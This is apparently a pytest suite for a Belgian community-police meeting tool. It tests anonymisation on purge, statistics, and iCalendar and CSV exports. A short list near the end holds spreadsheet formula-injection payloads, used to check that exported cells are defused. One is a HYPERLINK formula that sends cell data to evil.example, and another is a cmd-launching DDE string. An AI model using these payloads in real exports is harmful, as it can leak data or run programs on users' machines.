"""Retention with a frozen clock, statistics on a known fixture, iCalendar and CSV exports."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import timedelta
from pathlib import Path

import pytest
import time_machine
from icalendar import Calendar

from cafepol_tui.cli import main
from cafepol_tui.db.models import AuditEntry, Concern, Meeting, Registration
from cafepol_tui.services import concerns as cs
from cafepol_tui.services import meeting_fields as mf
from cafepol_tui.services import meetings_admin as ma
from cafepol_tui.services import registrations_admin as ra
from cafepol_tui.services.registrations import register
from cafepol_tui.services.retention import purge
from cafepol_tui.services.stats import compute
from cafepol_tui.services.validation import SignupForm
from cafepol_tui.statuses import ConcernStatus
from tests.conftest import FIXED_NOW

SECRET_NAME = "Zéphyrine Quackenbush"
SECRET_PHONE = "0470 55 66 77"
SECRET_EMAIL = "zephyrine.q@exemple.be"
SECRET_TOPIC = "Voisin bruyant au numéro 42 secretissime"


def raw_bytes(db_path: Path) -> bytes:
    data = db_path.read_bytes()
    wal = db_path.with_name(db_path.name + "-wal")
    if wal.exists():
        data += wal.read_bytes()
    return data


def test_purge_leaves_no_personal_string_in_the_file(zone, counter, officer, db, db_path):
    with time_machine.travel(FIXED_NOW - timedelta(days=10), tick=False):
        ref = register(
            zone["past"],
            SignupForm(
                name=SECRET_NAME,
                phone=SECRET_PHONE,
                email=SECRET_EMAIL,
                topic=SECRET_TOPIC,
                people=2,
                consent=True,
            ),
            max_party=4,
            topic_max=300,
        )
    day = FIXED_NOW - timedelta(days=3)
    r = Registration.get(Registration.reference == ref.reference)
    ra.check_in(r.id, True, counter, now=day)
    cid = cs.create_concern(
        cs.ConcernForm(
            theme="Propreté",
            description="Dépôts",
            meeting_id=zone["past"],
            wants_feedback=True,
            contact_name="Ophélie Secretcontact",
            contact_email="ophelie.s@exemple.be",
        ),
        counter,
        now=day,
    )
    Concern.update(status=ConcernStatus.RESOLVED).where(Concern.id == cid).execute()
    before = compute(now=FIXED_NOW)
    db.execute_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    assert SECRET_NAME.encode() in raw_bytes(db_path)

    with time_machine.travel(FIXED_NOW + timedelta(days=20), tick=False):
        report = purge(None, 30)  # 23 days after the meeting: too early
    assert report.registrations == 0
    with time_machine.travel(FIXED_NOW + timedelta(days=28), tick=False):
        report = purge(None, 30)
    # The topic raised in advance is still undecided: the sign-up waits for staff.
    assert report.registrations == 0 and report.topics_waiting == 1
    cs.dismiss_topic(r.id, "Hors compétence", officer, now=FIXED_NOW)
    with time_machine.travel(FIXED_NOW + timedelta(days=28), tick=False):
        report = purge(None, 30)
    assert report.registrations == 1 and report.topics_waiting == 0 and report.vacuumed
    cs.give_feedback(cid, "Rappelée", "in_person", officer)
    with time_machine.travel(FIXED_NOW + timedelta(days=29), tick=False):
        assert purge(None, 30).vacuumed  # the erased contact's old text is compacted away

    r = Registration.get_by_id(r.id)
    assert (r.name, r.phone, r.email, r.topic, r.name_key) == ("(anonymisé)", "", "", "", "")
    assert r.anonymised_at is not None and r.people == 2
    db.execute_sql("PRAGMA wal_checkpoint(TRUNCATE)")
    data = raw_bytes(db_path)
    for secret in (
        SECRET_NAME,
        "+32470556677",
        SECRET_EMAIL,
        "secretissime",
        "Quackenbush",
        "Secretcontact",
        "ophelie.s@exemple.be",
        "zephyrine quackenbush",
    ):
        assert secret.encode() not in data, secret
    conn = sqlite3.connect(db_path)
    assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    conn.close()
    after = compute(now=FIXED_NOW)
    assert after.totals == before.totals == {"registered": 2, "attended": 2, "interested": 0}
    assert AuditEntry.select().where(AuditEntry.action == "purge").count() == 4  # one more: the run that waited for the topic


def test_statistics_on_a_known_fixture(zone, counter, officer, admin):
    past = zone["past"]  # Boussu, 25 Nov 2026
    ra_day = FIXED_NOW - timedelta(days=3)
    with time_machine.travel(FIXED_NOW - timedelta(days=10), tick=False):
        refs = [
            register(past, SignupForm(name=n, people=p, consent=True), max_party=4, topic_max=300)
            for n, p in (("Alice", 2), ("Bruno", 1), ("Chloé", 3))
        ]
    ids = [Registration.get(Registration.reference == x.reference).id for x in refs]
    ra.check_in(ids[0], True, counter, now=ra_day)
    ra.check_in(ids[1], False, counter, now=ra_day)
    ra.add_walkins(past, 4, counter, now=ra_day)
    ma.set_interested(past, 25, admin)
    ma.create_meeting(
        mf.MeetingForm(commune="Boussu", place="X", day="10/11/2026", start="14:00"),
        admin,
        now=FIXED_NOW - timedelta(30),
    )
    c1 = cs.create_concern(
        cs.ConcernForm(theme="Propreté", description="a", meeting_id=past), counter, now=ra_day
    )
    cs.create_concern(
        cs.ConcernForm(theme="Propreté", description="b", meeting_id=past), counter, now=ra_day
    )
    cs.create_concern(
        cs.ConcernForm(theme="Sentiment d'insécurité", description="c", meeting_id=zone["later"]),
        counter,
        now=ra_day,
    )
    cs.update_concern(c1, "resolved", "ok", officer, now=ra_day + timedelta(days=1))
    cs.give_feedback(c1, "ok", "in_person", officer, now=ra_day + timedelta(days=4))

    s = compute(now=FIXED_NOW, months=2)
    assert s.months == ("2026-10", "2026-11")
    per = {(r.commune, r.month): (r.meetings, r.verdict) for r in s.per_month}
    assert per[("Boussu", "2026-11")] == (2, "objectif atteint")
    assert per[("Frameries", "2026-11")] == (0, "sous l'objectif")  # its meeting is in December
    row = next(r for r in s.attendance if r.meeting_id == past)
    assert (row.registered, row.attended, row.walkins, row.interested) == (6, 6, 4, 25)
    assert dict(s.concerns_by_theme) == {"Propreté": 2, "Sentiment d'insécurité": 1}
    assert dict(s.concerns_by_commune) == {"Boussu": 2, "Frameries": 1}
    assert s.median_days_to_feedback == 4.0 and abs(s.feedback_share - 1 / 3) < 1e-9


def test_cli_stats_json(zone, settings, capsys):
    assert main(["--db", settings.database_url, "stats", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["aim_per_month"] == [2, 3] and "median_days_to_feedback" in data["concerns"]
    assert main(["--db", settings.database_url, "stats"]) == 0
    assert "Boussu" in capsys.readouterr().out


def test_cli_export_ics_read_back(zone, admin, settings, tmp_path, capsys):
    ma.cancel_meeting(zone["later"], "Travaux", admin)
    Meeting.update(event_url="https://www.facebook.com/events/42").where(
        Meeting.id == zone["soon"]
    ).execute()
    out = tmp_path / "cafepol.ics"
    with time_machine.travel(FIXED_NOW, tick=False):
        assert main(["--db", settings.database_url, "export", "ics", "--out", str(out)]) == 0
    cal = Calendar.from_ical(out.read_bytes())
    events = list(cal.walk("VEVENT"))
    assert len(events) == 1  # the past and the cancelled meetings are left out
    ev = events[0]
    assert str(ev["UID"]) == f"cafepol-meeting-{zone['soon']}@cafepol.local"
    start = ev.decoded("DTSTART")
    assert str(start.tzinfo) == "Europe/Brussels" and start.hour == 10
    assert ev.decoded("DTEND") - start == timedelta(minutes=90)
    assert "Salle Boussu 3" in str(ev["LOCATION"])
    assert str(ev["URL"]) == "https://www.facebook.com/events/42"
    assert "Inspecteur Marc Dufrane" in str(ev["DESCRIPTION"])
    assert b"\r\n" in out.read_bytes() and list(cal.walk("VTIMEZONE"))
    assert AuditEntry.select().where(AuditEntry.action == "export").count() == 1


def test_cli_export_csv_registrations_and_concerns(zone, counter, settings, tmp_path):
    register(
        zone["soon"],
        SignupForm(name="Éloïse D'Hondt", consent=True, topic="Sécurité à l'école"),
        max_party=4,
        topic_max=300,
        now=FIXED_NOW,
    )
    cs.create_concern(
        cs.ConcernForm(
            theme="Propreté",
            description="Dépôts sauvages près du café",
            partner="Hygea",
            meeting_id=zone["soon"],
        ),
        counter,
    )
    regs, conc = tmp_path / "r.csv", tmp_path / "c.csv"
    assert main(["--db", settings.database_url, "export", "csv", "--out", str(regs)]) == 0
    assert (
        main(
            [
                "--db",
                settings.database_url,
                "export",
                "csv",
                "--table",
                "concerns",
                "--out",
                str(conc),
            ]
        )
        == 0
    )
    with regs.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["name"] == "Éloïse D'Hondt" and rows[0]["topic"] == "Sécurité à l'école"
    with conc.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["description"] == "Dépôts sauvages près du café"
    assert rows[0]["partner"] == "Hygea" and rows[0]["commune"] == "Boussu"
    assert "contact_phone" not in rows[0]
    assert (
        main(["--db", settings.database_url, "export", "json", "--out", str(tmp_path / "x.json")])
        == 0
    )
    data = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
    assert set(data) == {"meetings", "registrations", "concerns"}


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_look_like_formulas_are_defused(text: str) -> None:
    from cafepol_tui.documents.exports import concerns_csv, registrations_csv

    row = {"reference": "ABC123", "name": text, "topic": text, "people": -1, "phone": "",
           "waitlist_position": None}
    back = next(csv.DictReader(io.StringIO(registrations_csv({"registrations": [row]})[1:])))
    assert back["name"] == back["topic"] == "'" + text  # the text is kept, after the quote
    assert back["people"] == "-1" and back["waitlist_position"] == ""  # our numbers as they are
    concern = {"id": 1, "description": text, "place": "Rue =Haute", "wants_feedback": False}
    back = next(csv.DictReader(io.StringIO(concerns_csv({"concerns": [concern]})[1:])))
    assert back["description"] == "'" + text and back["place"] == "Rue =Haute"


def test_csv_export_keeps_the_phone_plus_as_text(zone, settings, tmp_path):
    for name, topic in (("Marie Dubois", "Stationnement - rue Haute"), ("=cmd", "-rien")):
        register(
            zone["soon"],
            SignupForm(name=name, phone="0470 55 66 77", consent=True, topic=topic),
            max_party=4,
            topic_max=300,
            now=FIXED_NOW,
        )
    out = tmp_path / "r.csv"
    assert main(["--db", settings.database_url, "export", "csv", "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["phone"] for r in rows] == ["'+32470556677"] * 2  # shown « +32470556677 », as text
    assert (rows[0]["name"], rows[0]["topic"]) == ("Marie Dubois", "Stationnement - rue Haute")
    assert (rows[1]["name"], rows[1]["topic"]) == ("'=cmd", "'-rien")
    data = json.loads(
        main(["--db", settings.database_url, "export", "json", "--out", str(tmp_path / "j.json")])
        or (tmp_path / "j.json").read_text(encoding="utf-8")
    )
    assert {r["phone"] for r in data["registrations"]} == {"+32470556677"}  # JSON: for scripts


def test_cli_purge_as_of(zone, settings, capsys):
    with time_machine.travel(FIXED_NOW - timedelta(days=10), tick=False):
        register(
            zone["past"], SignupForm(name=SECRET_NAME, consent=True), max_party=4, topic_max=300
        )
    with time_machine.travel(FIXED_NOW + timedelta(days=40), tick=False):  # 7 January 2027
        assert main(["--db", settings.database_url, "purge", "--as-of", "2026-12-20"]) == 0
        assert "anonymised 0 registration" in capsys.readouterr().out
        assert main(["--db", settings.database_url, "purge", "--as-of", "2026-12-26"]) == 0
        assert "anonymised 1 registration" in capsys.readouterr().out
        assert main(["--db", settings.database_url, "purge", "--as-of", "26/12/2026"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--as-of" in err


# Wording checked in the English source; French output: tests/test_languages.py.
pytestmark = pytest.mark.usefixtures("english")
